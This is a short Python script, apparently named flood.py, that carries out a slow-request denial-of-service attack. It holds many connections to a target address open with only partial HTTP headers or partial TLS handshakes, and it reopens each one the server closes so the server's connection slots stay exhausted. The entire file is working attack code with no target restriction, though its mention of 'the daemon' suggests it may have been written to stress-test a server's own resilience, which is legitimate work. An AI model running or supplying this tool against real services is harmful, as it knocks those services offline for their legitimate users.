"""Opens many connections with half a request and replaces each that the daemon closes.

Run as `python3 flood.py COUNT FAMILY START ADDRESS [PORT]` by any interpreter; START is `head` or
`hello`. Prints the number of live
connections after each round.
"""

import socket
import sys
import time

STARTS = {
    "head": b"GET /health HTTP/1.1\r\nHost: x\r\nX-Padding: ",
    "hello": bytes.fromhex("16 0301 0200 01 0001fc 0303"),  # a TLS handshake of 512 bytes begins
}


def connect(family: str, start: str, address: tuple[str, ...]) -> socket.socket:
    connection = socket.socket(getattr(socket, family), socket.SOCK_STREAM)
    connection.settimeout(5)
    connection.connect(address[0] if family == "AF_UNIX" else (address[0], int(address[1])))
    connection.sendall(STARTS[start])
    connection.setblocking(False)
    return connection


def is_open(connection: socket.socket) -> bool:
    try:
        return bool(connection.recv(1))
    except BlockingIOError:
        return True
    except OSError:
        return False


def main(count: int, family: str, start: str, *address: str) -> None:
    connections: list[socket.socket] = []
    while True:
        for connection in [c for c in connections if not is_open(c)]:
            connection.close()
            connections.remove(connection)
        while len(connections) < count:
            try:
                connections.append(connect(family, start, address))
            except OSError:
                break
        print(len(connections), flush=True)
        time.sleep(0.1)


if __name__ == "__main__":
    main(int(sys.argv[1]), *sys.argv[2:])
